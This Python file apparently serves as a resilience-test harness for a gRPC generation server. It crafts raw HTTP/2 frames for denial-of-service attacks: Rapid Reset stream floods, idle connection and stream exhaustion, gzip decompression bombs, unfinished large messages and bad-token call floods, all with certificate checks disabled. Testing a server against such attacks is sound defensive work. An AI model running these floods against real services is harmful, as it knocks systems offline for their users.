"""Clients that speak HTTP/2 by hand, to send what no library would. beside.py starts them as a process of their own:

http2.py [tls:]HOST:PORT ATTACK COUNT [SOURCE]

SOURCE is the address of this host that they connect from: the server tells hosts apart by it.
Prints "at work" once its load stands, "done" when it has done its COUNT, and stays until stdin is closed. A server that closes
a connection has answered: the attack goes on with the next one, as long as that is accepted.
"""

import gzip
import selectors
import socket
import ssl
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
GENERATE = "/sluice.v1.GenerationService/Generate"
TOKENIZE = "/sluice.v1.GenerationService/Tokenize"
STATUS = "/sluice.v1.GenerationService/GetStatus"
SESSION = "/sluice.v1.GenerationSessionService/OpenSession"
WATCH = "/grpc.health.v1.Health/Watch"
REFLECTION = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def text(value):
    """A string of HPACK (RFC 7541, 5.2), not Huffman coded."""
    if isinstance(value, str):
        value = value.encode()
    if len(value) < 127:
        return bytes([len(value)]) + value
    rest, length = len(value) - 127, b"\x7f"
    while rest >= 128:
        length += bytes([rest % 128 + 128])
        rest //= 128
    return length + bytes([rest]) + value


def fields(path, *more):
    return [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "it"),
            ("content-type", "application/grpc"), ("te", "trailers"), *more]


def block(headers):
    """Headers that go into the table of what may be named by a number."""
    return b"".join(b"\x40" + text(name) + text(value) for name, value in headers)


def named(count):
    """The same headers once more, by their numbers."""
    return bytes(0x80 + 61 + count - i for i in range(count))


def message(payload, compressed=False):
    return bytes([compressed]) + struct.pack(">I", len(payload)) + payload


SOURCE = sys.argv[4] if len(sys.argv) > 4 else ""
NO_PROOF = ssl.create_default_context()
NO_PROOF.check_hostname = False
NO_PROOF.verify_mode = ssl.CERT_NONE
NO_PROOF.set_alpn_protocols(["h2"])


class Connection:
    def __init__(self, endpoint):
        host, port = endpoint.removeprefix("tls:").rsplit(":", 1)
        self.socket = socket.create_connection((host, int(port)), 10, (SOURCE, 0))
        if endpoint.startswith("tls:"):
            self.socket = NO_PROOF.wrap_socket(self.socket)
        self.socket.settimeout(10)
        self.sent = 0
        self.stream = -1

    def open(self):
        self.send(PREFACE + frame(SETTINGS, 0, 0))
        return self

    def next_stream(self):
        self.stream += 2
        return self.stream

    def send(self, data):
        self.socket.sendall(data)
        self.sent += len(data)

    def read_some(self):
        """What the server says, thrown away; False once it has closed the connection."""
        try:
            self.socket.setblocking(False)
            while True:
                if not self.socket.recv(1 << 16):
                    return False
        except (BlockingIOError, socket.timeout, ssl.SSLWantReadError):
            return True
        except OSError:
            return False
        finally:
            self.socket.settimeout(10)

    def close(self):
        self.socket.close()


def say(word):
    print(word, flush=True)


def idle_connections(endpoint, count):
    """COUNT connections that say nothing."""
    kept = []
    for _ in range(count):
        try:
            kept.append(Connection(endpoint))
        except OSError:
            time.sleep(0.001)
    say("at work")
    return kept


def rapid_reset(endpoint, count):
    """COUNT streams of one connection, and of the next where it is closed, each reset as soon as it is begun."""
    say("at work")
    headers, done, pauses = fields(GENERATE), 0, 0
    while done < count:
        try:
            connection = Connection(endpoint).open()
            stream = connection.next_stream()
            connection.send(frame(HEADERS, END_HEADERS, stream, block(headers)) +
                            frame(RST_STREAM, 0, stream, b"\0\0\0\x08"))
            while done < count:
                parts = []
                for _ in range(1000):
                    stream = connection.next_stream()
                    parts.append(frame(HEADERS, END_HEADERS, stream, named(len(headers))))
                    parts.append(frame(RST_STREAM, 0, stream, b"\0\0\0\x08"))
                connection.send(b"".join(parts))
                done += 1000
                if not connection.read_some():
                    break
        except OSError:
            pauses += 1
            if pauses > 2000:  # it is not let in any longer
                return None
            time.sleep(0.001)
    return None


def idle_streams(path, first=b""):
    def attack(endpoint, count):
        """COUNT streams that are begun and say no more, a thousand to a connection, where `first` is sent before them."""
        kept, headers, begun, refused = [], fields(path), 0, 0
        while begun < count and refused < 200:
            try:
                connection = Connection(endpoint).open()
                kept.append(connection)
                stream = connection.next_stream()
                parts = [frame(HEADERS, END_HEADERS, stream, block(headers))]
                if first:
                    parts.append(frame(DATA, END_STREAM, stream, message(first)))
                parts += [frame(HEADERS, END_HEADERS, connection.next_stream(), named(len(headers))) for _ in range(999)]
                connection.send(b"".join(parts))
                begun += 1000
                connection.read_some()
            except OSError:
                refused += 1
                time.sleep(0.001)
        say("at work")
        return kept
    return attack


def gzip_bombs(endpoint, count):
    """COUNT small messages of 60 MB each."""
    bomb = gzip.compress(bytes(60 << 20), 1)
    say("at work")
    for _ in range(count):
        try:
            connection = Connection(endpoint).open()
            stream = connection.next_stream()
            data = message(bomb, compressed=True)
            connection.send(frame(HEADERS, END_HEADERS, stream, block(fields(TOKENIZE, ("grpc-encoding", "gzip")))))
            for i in range(0, len(data), 16384):
                connection.send(frame(DATA, 0, stream, data[i:i + 16384]))
            connection.send(frame(DATA, END_STREAM, stream))
            connection.read_some()
        except OSError:
            pass
    return None


def unfinished_messages(endpoint, count):
    """COUNT messages of 30 MB without a token, of which the end is missing."""
    kept = []
    say("at work")
    for _ in range(count):
        try:
            connection = Connection(endpoint).open()
            stream = connection.next_stream()
            connection.send(frame(HEADERS, END_HEADERS, stream, block(fields(TOKENIZE))))
            connection.send(frame(DATA, 0, stream, bytes([0]) + struct.pack(">I", 30 << 20)))
            connection.socket.settimeout(0.2)
            for _ in range(1900):
                connection.send(frame(DATA, 0, stream, bytes(16000)))
            kept.append(connection)
        except OSError:
            pass
    return kept


def wrong_tokens(endpoint, count):
    """COUNT calls with a token that is not known, a thousand a second."""
    say("at work")
    headers = fields(TOKENIZE, ("authorization", "Bearer nobody"))
    connection, began, done = None, time.monotonic(), 0
    while done < count:
        try:
            if connection is None:
                connection = Connection(endpoint).open()
                stream = connection.next_stream()
                connection.send(frame(HEADERS, END_HEADERS, stream, block(headers)) +
                                frame(DATA, END_STREAM, stream, message(b"")))
            parts = []
            for _ in range(20):
                stream = connection.next_stream()
                parts.append(frame(HEADERS, END_HEADERS, stream, named(len(headers))))
                parts.append(frame(DATA, END_STREAM, stream, message(b"")))
            connection.send(b"".join(parts))
            done += 20
            if not connection.read_some():
                raise OSError
        except OSError:
            connection = None
            time.sleep(0.001)
        time.sleep(max(began + done / 1000 - time.monotonic(), 0))
    return None


def served_calls(path, payload=b"", at_once=200, connections=20):
    """Calls in order, that are served: `at_once` under way on each of so many connections, and the next ones as they end."""
    def attack(endpoint, count):
        """COUNT calls in all. Those of a connection that the server closes do not come again."""
        headers, left = fields(path), count
        open_ones, under_way, parser = selectors.DefaultSelector(), {}, {}

        def send(connection, number):
            parts = []
            for _ in range(number):
                stream = connection.next_stream()
                coded = block(headers) if stream == 1 else named(len(headers))
                parts.append(frame(HEADERS, END_HEADERS, stream, coded) + frame(DATA, END_STREAM, stream, message(payload)))
            under_way[connection] += number
            connection.send(b"".join(parts))

        def connect():
            connection = Connection(endpoint).open()
            connection.send(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 2**31 - 1 - 65535)))
            under_way[connection], parser[connection] = 0, b""
            open_ones.register(connection.socket, selectors.EVENT_READ, connection)
            return connection

        say("at work")
        ones = [connect() for _ in range(connections)]
        for connection in ones:  # one that is served, and the server knows the connection
            send(connection, 1)
        for connection in ones:
            while under_way[connection] > 0:
                streams, parser[connection] = ended_streams(parser[connection] + connection.socket.recv(1 << 16))
                under_way[connection] -= streams
        for connection in ones:
            number = min(at_once, left)
            left -= number
            send(connection, number)
        while sum(under_way.values()) > 0:
            for key, _ in open_ones.select(30):
                connection = key.data
                try:
                    data = connection.socket.recv(1 << 18)
                    if not data:
                        raise OSError
                    streams, parser[connection] = ended_streams(parser[connection] + data)
                    under_way[connection] -= streams
                    number = min(at_once - under_way[connection], left)
                    if number >= at_once // 4 or number == left > 0:
                        left -= number
                        send(connection, number)
                except OSError:
                    open_ones.unregister(connection.socket)
                    under_way.pop(connection)
                    connection.close()
        return None
    return attack


def ended_streams(data):
    """How many streams the whole frames in `data` end, and what is left of it."""
    at, ended = 0, 0
    while at + 9 <= len(data):
        length = int.from_bytes(data[at:at + 3], "big")
        if at + 9 + length > len(data):
            break
        kind, flags = data[at + 3], data[at + 4]
        ended += kind == RST_STREAM or (kind in (DATA, HEADERS) and flags & END_STREAM)
        at += 9 + length
    return ended, data[at:]


def names_that_are_no_text(endpoint, count):
    """COUNT long calls for tenants whose names are not UTF-8."""
    request = b"\x12\x01a\x32\x02\x18\x01\x38\x90\x03"  # text, stop.ignore_eos, max_tokens
    connection = Connection(endpoint).open()
    say("at work")
    for i in range(count):
        headers = block(fields(GENERATE, ("sluice-tenant", b"\xff\xfe" + bytes([0x80 + i]))))
        stream = connection.next_stream()
        connection.send(frame(HEADERS, END_HEADERS, stream, headers) + frame(DATA, END_STREAM, stream, message(request)))
        time.sleep(0.05)
        connection.read_some()
    return connection


ATTACKS = {
    "idle_connections": idle_connections,
    "rapid_reset": rapid_reset,
    "idle_sessions": idle_streams(SESSION),
    "idle_watches": idle_streams(WATCH),
    "idle_reflections": idle_streams(REFLECTION),
    "idle_calls": idle_streams(GENERATE),
    # Each connection begins with a call that is served.
    "idle_calls_of_a_caller": idle_streams(GENERATE, b"\x12\x01a\x38\x01"),
    "gzip_bombs": gzip_bombs,
    "unfinished_messages": unfinished_messages,
    "wrong_tokens": wrong_tokens,
    "status_calls": served_calls(STATUS),
    "status_calls_at_once": served_calls(STATUS, at_once=500),
    "list_calls": served_calls(STATUS, b"\x08\x01"),  # with all requests
    "tokenize_calls": served_calls(TOKENIZE, b"\x0a\x05a b c"),
    "names_that_are_no_text": names_that_are_no_text,
}

if __name__ == "__main__":
    kept_open = ATTACKS[sys.argv[2]](sys.argv[1], int(sys.argv[3]))
    say("done")
    sys.stdin.read()
